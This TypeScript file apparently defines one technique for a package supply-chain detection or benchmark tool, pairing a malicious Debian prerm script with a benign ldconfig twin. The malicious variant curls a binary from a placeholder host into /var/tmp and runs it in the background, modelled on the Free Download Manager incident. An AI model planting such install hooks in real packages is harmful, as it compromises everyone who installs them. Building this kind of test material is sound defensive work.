import { withFile } from "../release.ts";
import type { Technique } from "../technique.ts";

export const maintainerScript: Technique = {
  id: "maintainer-script",
  title: "Script that fetches and runs something while the package installs",
  shape: "Free Download Manager's .deb, 2020 to 2023 (Kaspersky); ATT&CK T1546.016, Installer Packages",
  kind: "debian",
  least: "high",
  attack: ({ after }) =>
    withFile(
      after,
      "DEBIAN/prerm",
      "#!/bin/sh\nset -e\ncurl -fsSL https://cdn.example-mirror.invalid/crond -o /var/tmp/crond\nchmod 755 /var/tmp/crond\n/var/tmp/crond &\n",
      0o755,
    ),
  twinTitle: "a script that refreshes the linker's cache",
  twin: ({ after }) =>
    withFile(after, "DEBIAN/prerm", '#!/bin/sh\nset -e\nif [ "$1" = remove ]; then\n  ldconfig\nfi\n', 0o755),
};
